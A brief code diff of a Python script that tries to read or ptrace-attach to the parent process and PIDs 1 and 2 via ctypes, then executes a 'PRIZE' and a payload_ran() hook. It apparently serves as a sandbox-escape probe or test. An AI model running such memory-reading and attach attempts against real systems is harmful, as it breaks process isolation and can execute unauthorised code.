@@ -13,7 +13,7 @@ class Area(ctypes.Structure):
 
 buffer = ctypes.create_string_buffer(8)
 mine = Area(ctypes.addressof(buffer), 8)
-for process in {os.getppid(), 1} - {0, os.getpid()}:
+for process in {os.getppid(), 1, 2} - {0, os.getpid()}:
     theirs = Area(id(os), 8)
     read = libc.process_vm_readv(process, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0)
     if libc.ptrace(SEIZE, process, None, None) == 0 or read > 0:
@@ -23,3 +23,4 @@ try:
     exec(PRIZE, globals())
 except OSError:
     pass
+payload_ran()
